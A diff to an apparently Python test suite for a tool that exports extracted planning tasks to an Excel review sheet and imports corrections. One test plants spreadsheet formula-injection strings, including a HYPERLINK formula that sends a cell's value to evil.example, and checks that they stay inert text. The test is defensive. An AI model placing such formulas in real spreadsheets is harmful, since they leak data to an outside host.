@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -11,8 +12,10 @@ from plantasks.review.cli import main as review_main
 from plantasks.review.normalize import plan_context, resolve_one
 from plantasks.review.store import CorrectionStore, default_store_path
 from plantasks.review.xlsx import (
-    AREA_LABELS, CONFLICT_FILL, FLAG_FILL, INDEX, KIND_LABELS, SHEET, WorkbookError, export_workbook, import_workbook,
+    AREA_LABELS, CONFLICT_FILL, FLAG_FILL, INDEX, KIND_LABELS, META, SHEET, WorkbookError, export_workbook,
+    import_workbook,
 )
+from plantasks.review.fields import labels
 from plantasks.schemas import DocumentMeta, DocumentResult, Task
 
 from review_support import extract, sample_run
@@ -21,6 +24,15 @@ from review_support import extract, sample_run
 @pytest.fixture
 def run(tmp_path):
     return sample_run(tmp_path)
+
+
+def exported_sheet(out, tmp_path, source):
+    """`plantasks export` of the folder, opened for editing: (file, workbook, task sheet, row of each stt)."""
+    xlsx = tmp_path / "review.xlsx"
+    export_workbook(out, xlsx)
+    wb = load_workbook(xlsx)
+    ws = wb[SHEET]
+    return xlsx, wb, ws, rows_by_stt(ws, source.name)
 
 
 def rows_by_stt(ws, doc_label: str) -> dict[str, int]:
@@ -52,7 +64,7 @@ def test_export_layout_hidden_id_frozen_header_dropdowns_and_highlights(run, tmp
     assert [wb["_lists"].cell(i, 1).value for i in range(1, 9)] == list(AREA_LABELS.values())
     [row] = [r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "f1"]
     assert ws.cell(row, INDEX["deadline"]).fill.fgColor.rgb.endswith(FLAG_FILL.fgColor.rgb[-6:])
-    assert ws.cell(row, INDEX["flags"]).value == "deadline_unparsed"
+    assert ws.cell(row, INDEX["flags"]).value == labels()["flags"]["deadline_unparsed"]
     assert ws.cell(row, INDEX["content"]).fill.fgColor.rgb != FLAG_FILL.fgColor.rgb
 
 
@@ -69,7 +81,7 @@ def test_round_trip_three_cells_become_corrections_that_re_extract_applies(run, 
     ws.cell(rows["3"], INDEX["area"]).value = AREA_LABELS["organization"]
     wb.save(xlsx)
 
-    assert review_main(["import", str(xlsx), "--who", "Trần Văn Bình"]) == 0
+    assert review_main(["import", str(xlsx), "--out", str(out), "--who", "Trần Văn Bình"]) == 0
     stored = CorrectionStore(default_store_path(out)).all()
     assert sorted((c.task_id, c.field) for c in stored) == sorted(
         [(by_stt["4"].id, "lead"), (by_stt["1"].id, "deadline"), (by_stt["3"].id, "area")])
@@ -86,17 +98,13 @@ def test_round_trip_three_cells_become_corrections_that_re_extract_applies(run, 
     # importing the same file again stores nothing new (the cells equal the corrected values now)
     xlsx2 = tmp_path / "again.xlsx"
     export_workbook(out, xlsx2)
-    assert import_workbook(xlsx2).saved == 0
+    assert import_workbook(xlsx2, out).saved == 0
 
 
 def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
     source, out, first = run
     by_stt = {t.stt: t for t in first.tasks}
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     ws.insert_rows(rows["3"])  # a missed task between 2 and 3
     new = rows["3"]
     ws.cell(new, INDEX["stt"]).value = "2a"
@@ -109,7 +117,7 @@ def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
     ws.cell(rows["2"], INDEX["note"]).value = "theo sự kiện"
     wb.save(xlsx)
 
-    report = import_workbook(xlsx, who="an")
+    report = import_workbook(xlsx, out, who="an")
     assert report.problems == [] and report.saved == 4
     second = extract(source, out)
     stts = [t.stt for t in second.tasks]
@@ -126,23 +134,19 @@ def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
 
 def test_rows_that_cannot_be_matched_are_reported(run, tmp_path):
     source, out, first = run
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     ws.cell(rows["1"], INDEX["id"]).value = "not-an-id"
     ws.cell(rows["2"], INDEX["area"]).value = "Thời tiết"
     ws.cell(rows["3"], INDEX["stt"]).value = "3b"
     ws.delete_rows(rows["5"])
     wb.save(xlsx)
-    report = import_workbook(xlsx)
+    report = import_workbook(xlsx, out)
     text = "\n".join(report.problems)
     assert f"row {rows['1']}: task id 'not-an-id'" in text
     assert f"row {rows['2']}: area 'Thời tiết'" in text
     assert "was removed from the sheet" in text and {t.stt: t for t in first.tasks}["5"].id in text
     assert report.saved == 1  # the good row (stt 3 -> 3b) is still stored
-    assert review_main(["import", str(xlsx)]) == 1
+    assert review_main(["import", str(xlsx), "--out", str(out)]) == 1
 
 
 def test_a_foreign_workbook_is_refused(tmp_path):
@@ -171,18 +175,89 @@ def test_conflicting_cells_are_marked(run, tmp_path):
     ws = load_workbook(xlsx)[SHEET]
     row = rows_by_stt(ws, source.name)["4"]
     assert ws.cell(row, INDEX["lead"]).fill.fgColor.rgb.endswith(CONFLICT_FILL.fgColor.rgb[-6:])
-    assert "correction_conflict" in ws.cell(row, INDEX["flags"]).value
+    assert labels()["flags"]["correction_conflict"] in ws.cell(row, INDEX["flags"]).value
 
 
 def test_labels_cover_every_code_and_are_unique():
     import typing
 
-    from plantasks.review.fields import ALL_FIELDS, labels
-    from plantasks.schemas.output import Area, DeadlineKind
+    from plantasks.review.fields import ALL_FIELDS
+    from plantasks.schemas.output import Area, DeadlineKind, Recurrence
 
     data = labels()
+    assert list(data["recurrences"]) == list(typing.get_args(Recurrence))
     assert list(data["areas"]) == list(typing.get_args(Area))
     assert list(data["deadline_kinds"]) == list(typing.get_args(DeadlineKind))
     assert set(data["fields"]) == set(ALL_FIELDS)
     for table in data.values():
         assert len(set(table.values())) == len(table), "two codes share a label"
+
+
+def test_formula_like_text_is_written_as_text_on_export_and_after_import(run, tmp_path):
+    source, out, first = run
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
+    hostile = {"1": '=HYPERLINK("http://evil.example/?"&A2,"bấm")', "2": "+1+1", "3": "@SUM(1,2)", "5": "-2+3"}
+    for stt, text in hostile.items():
+        ws.cell(rows[stt], INDEX["content"]).value = text  # what an analyst (or a hostile source) typed
+    wb.save(xlsx)
+    assert import_workbook(xlsx, out).saved == 4
+    again = tmp_path / "again.xlsx"
+    export_workbook(out, again)
+    with zipfile.ZipFile(again) as z:
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets), "no cell is a formula"
+    ws = load_workbook(again)[SHEET]
+    rows = rows_by_stt(ws, source.name)
+    for stt, text in hostile.items():
+        cell = ws.cell(rows[stt], INDEX["content"])
+        assert (cell.value, cell.data_type) == (text, "s")
+
+
+def test_the_sheet_shows_dates_source_flags_in_vietnamese_and_readable_rows(run, tmp_path):
+    source, out, first = run
+    xlsx = tmp_path / "review.xlsx"
+    export_workbook(out, xlsx)
+    ws = load_workbook(xlsx)[SHEET]
+    rows = rows_by_stt(ws, source.name)
+    by_stt = {t.stt: t for t in first.tasks}
+    row = rows["1"]  # Quý II/2025
+    assert (ws.cell(row, INDEX["start"]).value, ws.cell(row, INDEX["due"]).value) == ("01/04/2025", "30/06/2025")
+    src = by_stt["1"].source
+    assert ws.cell(row, INDEX["source"]).value == f"tr. {src.page}, dòng {src.line_start}–{src.line_end}"
+    flagged = rows["4"]  # "Hội đồng thi tuyển" is not in the registry
+    assert ws.cell(flagged, INDEX["flags"]).value == labels()["flags"]["agency_unknown"]
+    assert all(ws.row_dimensions[r].height >= 15 for r in rows.values())
+    assert ws.row_dimensions[rows["1"]].height > 15  # a long content wraps over several lines
+
+
+def test_importing_the_same_sheet_twice_changes_nothing_the_second_time(run, tmp_path):
+    source, out, first = run
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
+    ws.insert_rows(rows["3"])
+    ws.cell(rows["3"], INDEX["content"]).value = "Rà soát quy trình nội bộ."
+    ws.cell(rows["1"], INDEX["deadline"]).value = "Tháng 9/2025"
+    wb.save(xlsx)
+    assert import_workbook(xlsx, out).saved == 2
+    store = CorrectionStore(default_store_path(out))
+    before = [c.to_json() for c in store.all()]
+    assert import_workbook(xlsx, out).saved == 0
+    assert [c.to_json() for c in store.all()] == before
+    tasks = extract(source, out).tasks
+    assert [t.content for t in tasks].count("Rà soát quy trình nội bộ.") == 1
+
+
+def test_import_writes_where_it_is_told_never_where_the_sheet_says(run, tmp_path):
+    source, out, first = run
+    xlsx = tmp_path / "review.xlsx"
+    export_workbook(out, xlsx)
+    wb = load_workbook(xlsx)
+    elsewhere = tmp_path / "elsewhere"
+    wb[META]["B3"] = str(elsewhere)  # a planted _meta.out_dir
+    ws = wb[SHEET]
+    ws.cell(rows_by_stt(ws, source.name)["1"], INDEX["stt"]).value = "1a"
+    wb.save(xlsx)
+    with pytest.raises(WorkbookError, match="--out DIR"):
+        import_workbook(xlsx)
+    assert review_main(["import", str(xlsx)]) == 2
+    assert import_workbook(xlsx, out).saved == 1
+    assert not elsewhere.exists() and (out / "corrections.sqlite").exists()
